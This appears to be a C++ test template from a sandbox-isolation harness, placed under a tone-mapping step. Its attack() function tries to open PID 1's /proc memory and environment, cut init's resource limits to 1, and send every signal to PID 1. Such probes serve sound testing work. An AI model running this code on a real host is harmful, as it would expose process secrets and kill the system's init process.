#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <csignal>
#include <fcntl.h>
#include <sys/resource.h>
#include <unistd.h>

#include <string>

// Should there be no sandbox, the machine stays whole, and the attack counts as one that worked.
static bool is_outside() {
    char name[64] = "";
    const ssize_t size = readlink("/proc/self/ns/pid", name, sizeof name - 1);
    return size > 0 && std::string(name) == "@PID_NAMESPACE@";
}

static bool attack() {
    if (is_outside()) {
        return true;
    }
    bool reached = false;
    for (const char* name : {"mem", "environ", "maps", "fd", "root", "cwd", "cmdline", "stat", "task/1/mem"}) {
        reached = reached || open((std::string("/proc/1/") + name).c_str(), O_RDONLY) >= 0;
        reached = reached || open((std::string("/proc/self/../1/") + name).c_str(), O_RDWR) >= 0;
    }
    rlimit least{1, 1};
    reached = reached || prlimit(1, RLIMIT_CPU, &least, nullptr) == 0;
    reached = reached || prlimit(1, RLIMIT_NOFILE, &least, nullptr) == 0;
    for (int number = 1; number < 65; ++number) {
        kill(1, number);  // should one of them end it, this program ends with it
    }
    return reached;
}
static bool worked() {
    static const bool result = attack();
    return result;
}
@RIGHT_IF(worked())@
